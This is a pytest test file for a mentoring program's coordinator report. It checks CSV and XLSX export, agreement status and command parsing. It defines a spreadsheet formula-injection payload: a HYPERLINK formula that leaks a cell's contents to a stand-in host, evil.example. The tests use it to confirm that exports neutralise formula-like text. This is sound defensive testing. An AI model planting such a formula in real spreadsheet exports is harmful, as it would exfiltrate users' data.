"""The coordinator's report: a pairing's row, and files no spreadsheet executes."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta

import pytest
from openpyxl import load_workbook

from service.coordinators.digest_rules import PairSummary, digest_flags
from service.coordinators.report_rules import (
    COLUMNS,
    PairingFacts,
    agreement,
    neutral,
    report_row,
)
from service.coordinators.spreadsheet import as_csv, as_xlsx
from service.program.grammar import REPORT, Grammar, help_text, parse

NOW = datetime(2027, 3, 10, 12, 0, tzinfo=UTC)
HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def facts(**changes: object) -> PairingFacts:
    summary = PairSummary(
        number=12,
        mentor="Dr. Zoë O'Brien",
        mentee="Sam Okafor",
        state="active",
        interval_days=14,
        cadence="every 2 weeks",
        created_at=NOW - timedelta(days=90),
        signed_at=NOW - timedelta(days=85),
        last_held=NOW - timedelta(days=40),
        overdue=2,
    )
    values: dict[str, object] = {
        "summary": summary,
        "program": "Hematology 2027",
        "mentor_email": "zoe@hospital.example",
        "mentee_email": "sam@university.example",
        "mentor_agreed": True,
        "mentee_agreed": True,
        "signed_on": date(2026, 12, 15),
        "held": 3,
        "planned": 2,
        "last_held": date(2027, 1, 29),
        "next_meeting": date(2027, 3, 12),
        "mentor_replied": date(2027, 2, 1),
        "mentee_replied": None,
        "open_items": 4,
    }
    values.update(changes)
    return PairingFacts(**values)  # type: ignore[arg-type]


def test_a_row_holds_the_people_the_counts_and_the_digest_s_flags() -> None:
    fact = facts()
    row = dict(zip(COLUMNS, report_row(fact, NOW), strict=True))
    assert row["Pairing"] == 12 and row["Program"] == "Hematology 2027"
    assert row["Mentor"] == "Dr. Zoë O'Brien" and row["Mentee email"] == "sam@university.example"
    assert row["Agreement"] == "signed" and row["Signed on"] == date(2026, 12, 15)
    assert (row["Meetings held"], row["Meetings planned"]) == (3, 2)
    assert row["Mentor's last reply"] == date(2027, 2, 1) and row["Mentee's last reply"] is None
    assert (row["Open action items"], row["Overdue action items"]) == (4, 2)
    flags = [flag.reason for flag in digest_flags(fact.summary, NOW)]
    assert len(flags) == 2 and "no meeting held for 6 weeks" in flags[0] and "overdue" in flags[1]
    assert row["Flags"] == "; ".join(flags)


@pytest.mark.parametrize(
    ("state", "mentor", "mentee", "said"),
    [
        ("agreeing", False, False, "waiting for both"),
        ("agreeing", True, False, "waiting for Sam Okafor"),
        ("agreeing", False, True, "waiting for Dr. Zoë O'Brien"),
        ("closed", False, True, "never signed"),
    ],
)
def test_the_agreement_says_who_is_still_to_agree(
    state: str, mentor: bool, mentee: bool, said: str
) -> None:
    fact = facts(mentor_agreed=mentor, mentee_agreed=mentee, signed_on=None)
    fact = replace(fact, summary=replace(fact.summary, state=state, signed_at=None))
    assert agreement(fact) == said


@pytest.mark.parametrize(
    ("written", "safe"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+1-555-0100", "'+1-555-0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Dr. Ana Reyes", "Dr. Ana Reyes"),
        ("Sam = Samuel", "Sam = Samuel"),
        ("", ""),
    ],
)
def test_text_that_begins_like_a_formula_is_neutralised(written: str, safe: str) -> None:
    assert neutral(written) == safe


def hostile_rows() -> list[tuple[object, ...]]:
    fact = facts(mentee_email="@evil.example")
    summary = replace(fact.summary, mentor=HOSTILE, mentee="+1-555-0100")
    return [report_row(replace(fact, summary=summary), NOW)]


def test_the_csv_shows_formulas_as_text_and_keeps_numbers_and_dates() -> None:
    data = as_csv(hostile_rows())  # type: ignore[arg-type]
    assert data.startswith("\ufeff".encode())  # Excel reads the accents right
    header, row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert header == list(COLUMNS)
    cells = dict(zip(header, row, strict=True))
    assert cells["Mentor"] == "'" + HOSTILE
    assert cells["Mentee"] == "'+1-555-0100"
    assert cells["Mentee email"] == "'@evil.example"
    assert cells["Pairing"] == "12" and cells["Meetings held"] == "3"
    assert cells["Signed on"] == "2026-12-15" and cells["Mentee's last reply"] == ""
    # No cell of the file begins like a formula.
    assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_xlsx_stores_formulas_as_text_never_as_formulas() -> None:
    data = as_xlsx(hostile_rows())  # type: ignore[arg-type]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    sheet = load_workbook(io.BytesIO(data))["Pairings"]
    header = [cell.value for cell in sheet[1]]
    assert header == list(COLUMNS)
    cells = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    # The name as the person wrote it, stored as text and marked as text for editing.
    assert cells["Mentor"].value == HOSTILE
    assert cells["Mentor"].data_type == "s" and cells["Mentor"].quotePrefix
    assert cells["Mentee"].value == "+1-555-0100" and cells["Mentee"].quotePrefix
    assert cells["Program"].value == "Hematology 2027" and not cells["Program"].quotePrefix
    assert cells["Pairing"].value == 12 and cells["Overdue action items"].value == 2
    assert cells["Signed on"].value == datetime(2026, 12, 15)  # a date the sheet can sort
    assert cells["Mentee's last reply"].value is None


def test_text_an_xlsx_cannot_hold_or_would_read_as_an_error_stays_text() -> None:
    fact = facts()
    summary = replace(fact.summary, mentor="Ana\x07 Reyes", mentee="#N/A")
    data = as_xlsx([report_row(replace(fact, summary=summary), NOW)])
    cells = dict(zip(COLUMNS, load_workbook(io.BytesIO(data))["Pairings"][2], strict=True))
    assert cells["Mentor"].value == "Ana\ufffd Reyes"
    assert cells["Mentee"].value == "#N/A" and cells["Mentee"].data_type == "s"


@pytest.mark.parametrize("line", ["report", "Report.", "- report"])
def test_a_coordinator_asks_for_the_report_in_a_line_of_its_own(line: str) -> None:
    assert parse(line, Grammar.COORDINATOR).commands[0].syntax is REPORT
    assert parse(line).commands == []  # not a participant's command
    assert "report" in [
        example
        for example, _ in help_text(Grammar.COORDINATOR, "coordinator", today=date(2026, 12, 4))
    ]
